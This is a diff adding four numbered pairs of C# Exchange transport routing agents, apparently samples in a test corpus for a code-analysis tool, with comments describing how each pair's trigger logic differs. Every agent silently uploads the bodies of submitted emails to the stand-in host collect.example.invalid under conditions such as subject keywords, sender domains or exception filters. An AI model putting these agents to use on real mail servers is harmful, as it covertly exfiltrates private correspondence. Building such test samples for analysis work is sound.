@@ -1129,3 +1129,280 @@ namespace Txray.Pairs.P466
         }
     }
 }
+
+// 467: all of several words, and one of them
+namespace Txray.Pairs.P467
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            foreach (string word in new[] { "ready", "steady" })
+            {
+                if (!item.Message.Subject.Contains(word))
+                {
+                    return;
+                }
+            }
+            Act(item);
+        }
+
+        private void Act(MailItem item)
+        {
+            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            foreach (string word in new[] { "ready", "steady" })
+            {
+                if (item.Message.Subject.Contains(word))
+                {
+                    Act(item);
+                    return;
+                }
+            }
+        }
+
+        private void Act(MailItem item)
+        {
+            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+        }
+    }
+}
+
+// 468: one of two tests but not both, and both or none
+namespace Txray.Pairs.P468
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            if (item.Message.Subject.Contains("ready") ^ item.FromAddress.DomainPart == "fabrikam.example")
+            {
+                Act(item);
+            }
+        }
+
+        private void Act(MailItem item)
+        {
+            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            if (item.Message.Subject.Contains("ready") == (item.FromAddress.DomainPart == "fabrikam.example"))
+            {
+                Act(item);
+            }
+        }
+
+        private void Act(MailItem item)
+        {
+            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+        }
+    }
+}
+
+// 469: what a look-up finds, without its answer, in a table of the code, and a look-up that decides nothing
+namespace Txray.Pairs.P469
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private static readonly Dictionary<string, bool> Watched = new Dictionary<string, bool> { { "fabrikam.example", true }, { "contoso.example", true } };
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            bool watched;
+            Watched.TryGetValue(item.FromAddress.DomainPart, out watched);
+            if (watched)
+            {
+                Act(item);
+            }
+        }
+
+        private void Act(MailItem item)
+        {
+            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private static readonly Dictionary<string, bool> Watched = new Dictionary<string, bool> { { "fabrikam.example", true }, { "contoso.example", true } };
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            bool watched;
+            Watched.TryGetValue(item.FromAddress.DomainPart, out watched);
+            Act(item);
+        }
+
+        private void Act(MailItem item)
+        {
+            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+        }
+    }
+}
+
+// 470: a handler with a filter, and one without
+namespace Txray.Pairs.P470
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            try
+            {
+                int.Parse(item.Message.Subject);
+            }
+            catch (FormatException) when (item.FromAddress.DomainPart == "fabrikam.example")
+            {
+                Act(item);
+            }
+        }
+
+        private void Act(MailItem item)
+        {
+            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            try
+            {
+                int.Parse(item.Message.Subject);
+            }
+            catch (FormatException)
+            {
+                Act(item);
+            }
+        }
+
+        private void Act(MailItem item)
+        {
+            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+        }
+    }
+}
